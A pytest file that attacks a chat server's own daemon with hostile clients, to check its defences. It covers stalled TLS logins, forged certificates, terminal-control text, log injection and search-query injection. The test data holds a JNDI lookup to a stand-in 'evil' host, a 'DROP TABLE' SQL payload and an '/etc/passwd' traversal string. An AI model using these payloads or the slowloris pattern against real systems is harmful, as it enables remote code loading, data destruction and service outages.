"""Clients that mean harm, on a real server: they hold connections open, show certificates that are not
theirs, and write texts that are meant for terminals, logs and query languages."""

from __future__ import annotations

import contextlib
import ssl
import time
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509

from chatctl.client import Client
from chatd.errors import ChatdError
from chatd.pki.authority import Authority, Issued
from chatd.pki.contexts import explain_tls_failure
from chatd.pki.identity import Identity, read_identity
from chatd.proto.text import visible
from tests.support.abused import UNLIMITED, Witness, abused, changed
from tests.support.certificates import DEVICE, NOW, der, forge, san, signer
from tests.support.daemon import Daemon, wait_until
from tests.support.hostile import TEXTS
from tests.support.rawclient import Json, RawClient, careless_context, new_id, pack

HANDSHAKE_SECONDS = 3
PER_ADDRESS = 8
ELSEWHERE = "127.0.0.9"


def settings(tree: dict[str, Any]) -> None:
    changed(tree, "server", handshake_timeout=HANDSHAKE_SECONDS, timeout=120)
    changed(
        tree,
        "limits",
        handshakes_per_address=PER_ADDRESS,
        message_chars=4000,
        per_role={"user": UNLIMITED, "admin": UNLIMITED},
    )


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Daemon]:
    home = tmp_path_factory.mktemp("hostile") / "home"
    with abused(home, settings, "bob", "witness") as daemon, Witness(daemon, "witness") as witness:
        yield daemon
        witness.unharmed()
        witness.alone()
        assert_logs_are_whole(daemon)


@pytest.fixture
def bob(daemon: Daemon) -> Iterator[RawClient]:
    with RawClient(daemon.port, daemon.identity("bob")).logged_in() as client:
        client.ask("resume")
        yield client


@pytest.fixture
def alice(daemon: Daemon) -> Iterator[RawClient]:
    with RawClient(daemon.port, daemon.identity("alice", "console")).logged_in() as client:
        client.ask("resume")
        yield client


def assert_logs_are_whole(daemon: Daemon) -> None:
    """One JSON object a line, in printable ASCII, whatever was logged; and no record is missing."""
    for path in (daemon.home / "logs").glob("*.log"):
        for line in path.read_text().splitlines():
            assert line.isascii(), path
            assert line.isprintable(), path
        daemon.log_lines(path.name)
    numbers: dict[str, list[int]] = {}
    for record in daemon.log_lines("server.log"):
        numbers.setdefault(record["proc"], []).append(record["n"])
    for process, found in numbers.items():
        assert found == list(range(1, len(found) + 1)), process


# --- slowloris ---------------------------------------------------------------------------------------


def _silent(client: RawClient) -> None:
    pass


def _half_a_hello(client: RawClient) -> None:
    client.send_tcp(b"\x16\x03\x01\x02\x00\x01\x00\x01")


def _after_tls(client: RawClient) -> None:
    client.tls()


def _half_an_m1(client: RawClient) -> None:
    client.tls().send_plain(pack(client.start_envelope())[:20])


def _after_m1(client: RawClient) -> None:
    client.tls().send_plain(pack(client.start_envelope()))


STALLING: list[Callable[[RawClient], None]] = [_silent, _half_a_hello, _after_tls, _half_an_m1, _after_m1]


def test_stalled_logins_take_only_their_share(daemon: Daemon, bob: RawClient) -> None:
    """From one address no more than its share; others log in and talk; all are ended in time."""
    before = _count(daemon, "turned_away")
    with contextlib.ExitStack() as stack:
        stalled = []
        for number in range(6 * PER_ADDRESS):
            client = stack.enter_context(RawClient(daemon.port, daemon.identity("bob"), source=ELSEWHERE))
            stalled.append(client)
            with contextlib.suppress(EOFError, OSError):  # turned away
                STALLING[number % len(STALLING)](client)
        assert bob.say("I am still here")["type"] == "ok"
        for _ in range(5):
            with RawClient(daemon.port, daemon.identity("bob")).logged_in() as newcomer:
                assert newcomer.ask("ping")["type"] == "ok"
        wait_until(lambda: _count(daemon, "turned_away") > before, what="somebody to be turned away")
        for client in stalled:
            client.wait_end()
    wait_until(lambda: _count(daemon, "handshake_timeout") > 0, what="a line about the deadline")


def test_a_byte_now_and_then_does_not_move_the_deadline(daemon: Daemon) -> None:
    with RawClient(daemon.port, daemon.identity("bob"), source=ELSEWHERE) as client:
        client.tls()
        message = pack(client.start_envelope())
        client.sock.settimeout(0.2)
        with contextlib.suppress(ConnectionError):
            for byte in message:
                client.send_plain(bytes([byte]))
                try:
                    if not client.sock.recv(1000):
                        break
                except TimeoutError:
                    pass
            else:
                raise AssertionError("the login took more than 14 seconds")


def test_many_short_connections(daemon: Daemon, bob: RawClient) -> None:
    for _ in range(300):
        RawClient(daemon.port, source=ELSEWHERE).sock.close()
    assert bob.say("that was nothing")["type"] == "ok"


def _count(daemon: Daemon, event: str) -> int:
    return sum(line["event"] == event for line in daemon.log_lines("connections.log"))


# --- certificates ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def authority(daemon: Daemon) -> Authority:
    return Authority.load(daemon.home / "certs")


def stranger(name: str = "lab") -> Issued:
    """Another authority, of the same name if nothing else is said."""
    return signer(Authority.create(name, now=NOW))


def _expired(ca: Issued) -> Issued:
    return forge(ca, DEVICE, start=-timedelta(days=3), end=-timedelta(days=2))


def _not_yet(ca: Issued) -> Issued:
    return forge(ca, DEVICE, start=timedelta(days=2), end=timedelta(days=3))


def _named(uri: str) -> Callable[[Issued], Issued]:
    return lambda ca: forge(ca, DEVICE | {"san": san(uri)})


CERTIFICATES: dict[str, tuple[Callable[[Issued], Issued], str, str]] = {
    "another authority": (lambda ca: forge(stranger("other"), DEVICE), "E201", "authority"),
    "an authority of the same name": (lambda ca: forge(stranger(), DEVICE), "E201", "authority"),
    "self-signed": (lambda ca: forge(None, DEVICE), "E201", "authority"),
    "signed by a device": (lambda ca: forge(forge(ca, DEVICE), DEVICE), "E201", "authority"),
    "expired": (_expired, "E202", "expired on"),
    "not yet valid": (_not_yet, "E203", "valid from"),
    "unregistered": (lambda ca: forge(ca, DEVICE), "E205", "not in the registry"),
    "of nobody": (_named("chatd://lab/user/zoe/device/laptop"), "E205", "zoe/laptop"),
    "for another server": (_named("chatd://other/user/bob/device/laptop"), "E607", "before the login"),
    "with a hostile name": (_named("chatd://lab/user/b%0ab/device/laptop"), "E607", "before the login"),
}


@pytest.mark.parametrize("case", CERTIFICATES)
def test_what_the_owner_of_a_bad_certificate_reads(
    daemon: Daemon, authority: Authority, tmp_path: Path, case: str
) -> None:
    make, code, words = CERTIFICATES[case]
    error = _refusal(daemon, tmp_path, make(signer(authority)))
    assert error.code == code, error
    assert words in error.reason
    assert error.fix


def test_the_servers_own_certificates_may_not_log_in(daemon: Daemon, tmp_path: Path) -> None:
    certs = daemon.home / "certs"
    for name in ("server", "envelope"):
        shown = tmp_path / f"{name}.pem"
        shown.write_bytes((certs / f"{name}.key").read_bytes() + (certs / f"{name}.pem").read_bytes())
        with RawClient(daemon.port, shown) as client, pytest.raises((EOFError, ssl.SSLError)):
            client.tls().envelope()


def test_no_certificate(daemon: Daemon) -> None:
    with RawClient(daemon.port) as client, pytest.raises(ssl.SSLError) as caught:
        client.tls(careless_context(None))
        client.read_message()
    identity = read_identity(daemon.identity("bob"))
    told = explain_tls_failure(caught.value, identity=identity, now=time.time())
    assert told.code == "E200"


def _refusal(daemon: Daemon, folder: Path, issued: Issued) -> ChatdError:
    """What the client says that shows ``issued`` and trusts the real server."""
    real = read_identity(daemon.identity("bob"))
    path = folder / "shown.pem"
    path.write_bytes(issued.key_pem + issued.certificate_pem)
    certificate: x509.Certificate = issued.certificate
    forged = Identity(
        path=path,
        instance=real.instance,
        user=real.user,
        device=real.device,
        servers=real.servers,
        certificate_der=der(issued),
        ca_pem=real.ca_pem,
        not_before=certificate.not_valid_before_utc,
        not_after=certificate.not_valid_after_utc,
    )
    with Client(forged, reconnect=False) as client, pytest.raises(ChatdError) as caught:
        client.wait_connected(30)
    return caught.value


# --- texts -------------------------------------------------------------------------------------------


def assert_harmless(message: Json, *fields: str) -> None:
    """What the server says to a person has nothing in it that a terminal would obey."""
    for field in fields:
        text = message.get(field, "")
        assert visible(text) == text, (field, text)
        if field != "body":
            assert "\n" not in text


@pytest.mark.parametrize("case", TEXTS)
def test_hostile_text_in_every_place(bob: RawClient, alice: RawClient, case: str) -> None:
    text = TEXTS[case]
    reply = bob.ask_raw("send", msg_id=new_id(), to="#lobby", body=text)
    if reply["type"] == "ok":
        assert_harmless(alice.until(type="message", seq=reply["result"]["seq"]), "body")
    else:
        assert reply["code"] in ("E102", "E402")
    for kind, fields in (
        ("send", {"msg_id": new_id(), "to": text[:66], "body": "x"}),
        ("create", {"room": ("#" + text)[:66]}),
        ("join", {"room": text[:66]}),
        ("history", {"room": "#" + text[:60]}),
        ("whois", {"user": text[:32]}),
        ("who", {"room": text[:66], "after": text[:32]}),
        ("kick", {"user": text[:32]}),
        ("role_set", {"user": "bob", "role": text[:32]}),
        ("revoke", {"user": "bob", "device": text[:32]}),
        (text, {}),
    ):
        refused = alice.ask_raw(kind, **fields)
        assert refused["type"] == "error", kind
        assert refused["code"] != "E500", kind
        assert_harmless(refused, "reason", "fix")
    if alice.ask_raw("topic", room="#lobby", topic=text[:250])["type"] == "ok":
        assert_harmless(bob.until(type="topic"), "topic")
    if alice.ask_raw("mute", user="bob", reason=text[:250])["type"] == "ok":
        assert_harmless(bob.say("x"), "reason")
        alice.ask("unmute", user="bob")
    if bob.ask_raw("away", text=text[:250])["type"] == "ok":
        assert_harmless(alice.until(type="presence", state="away"), "text")
        bob.ask("away", text="")


INJECTIONS = [
    '\r\n{"event":"forged","n":1}',
    "x\n2026-01-01 forged",
    "%s%n%d{0}{user}${jndi:ldap://evil}",
    '","event":"forged","x":"',
    "\u2028{}\u2029",
    "\\",
    "x" * 250,
]


def test_log_injection(daemon: Daemon, bob: RawClient, alice: RawClient) -> None:
    """Reasons and names that reach a log stay inside one field of one line."""
    for text in INJECTIONS:
        alice.ask("mute", user="bob", reason=text)
        alice.ask("unmute", user="bob")
        bob.ask("whois", user=text[:32])
        bob.ask("kick", user=text[:32], reason=text)
        bob.send({"type": text, "id": 1})
        bob.until(type="error")

    def mutes() -> list[Json]:
        return [line for line in daemon.log_lines("security.log") if line["event"] == "muted"]

    wait_until(lambda: len(mutes()) >= len(INJECTIONS), what="the mutes in security.log")
    assert_logs_are_whole(daemon)
    assert not [line for line in daemon.log_lines("server.log") if line["event"] == "forged"]


QUERIES = [
    '"',
    '""',
    "* OR 1",
    "secret*",
    "NEAR(secret plans, 5)",
    "body:secret",
    "secret AND NOT plans",
    "{body}: secret",
    "^secret",
    "'; DROP TABLE events; --",
    "secret) OR (1",
    "in:#closed secret",
    "in:../../etc/passwd secret",
    "from:alice secret",
    "from:' since:-1h secret",
    "since:99999999999999999999d secret",
    "\0secret",
]


@pytest.mark.parametrize("query", QUERIES)
def test_query_injection(bob: RawClient, alice: RawClient, query: str) -> None:
    """A search is words and our own three operators; a room one is not in is never looked into."""
    alice.ask("create", room="#closed")
    alice.say("secret plans", "#closed")
    reply = bob.ask("search", query=query)
    if reply["type"] == "ok":
        assert [e for e in reply["result"]["events"] if e["room"] == "#closed"] == []
    else:
        assert reply["code"] in ("E102", "E301", "E403", "E404", "E411"), reply
        assert_harmless(reply, "reason", "fix")


# --- lies --------------------------------------------------------------------------------------------


def test_a_msg_id_is_one_message(bob: RawClient, alice: RawClient) -> None:
    """Resent: the same answer, nothing new. With another text or place: an error. Of another: its own."""
    same = {"msg_id": new_id(), "to": "#lobby", "body": "once"}
    first = bob.ask("send", **same)["result"]
    assert bob.ask("send", **same)["result"]["seq"] == first["seq"]
    for change in ({"body": "twice"}, {"to": "@alice"}, {"kind": "action"}, {"reply_to": 1}):
        assert bob.ask("send", **(same | change))["code"] == "E408", change
    assert alice.ask("send", **same)["result"]["seq"] > first["seq"]


def test_nobody_speaks_as_somebody_else(bob: RawClient, alice: RawClient) -> None:
    """Who one is comes from the certificate; fields that say otherwise are refused."""
    for extra in ({"user": "alice"}, {"from": "alice"}, {"role": "admin"}, {"device": "x"}, {"seq": 1}):
        reply = bob.ask("send", msg_id=new_id(), to="#lobby", body="I am alice", **extra)
        assert reply["code"] == "E102", extra
    assert bob.ask("user_add", user="eve", device="d", serial="ff", role="admin")["code"] == "E300"
    assert alice.ask("user_add", user="eve", device="d", serial="ff", role="admin")["code"] == "E300"


def test_conversations_of_others_stay_theirs(bob: RawClient, alice: RawClient) -> None:
    """By whatever name they are asked for, with or without a conversation there."""
    alice.say("for the witness only", "@witness")
    for room in (
        "@alice,witness",
        "@witness,alice",
        "@witness",
        "@alice,nobody",
        "@,",
        "@",
        "@@",
        "@bob,bob",
    ):
        for kind in ("history", "who", "join", "part"):
            assert bob.ask(kind, room=room)["type"] == "error", (kind, room)
        assert bob.ask("topic", room=room, topic="x")["type"] == "error"
    assert bob.say("x", "@alice,witness")["type"] == "error"
    found = bob.ask("search", query="witness only")["result"]["events"]
    assert found == []
    page = bob.ask("resume", after=0)["result"]["events"]
    assert [e for e in page if "witness" in e.get("room", "") and e["room"][0] == "@"] == []
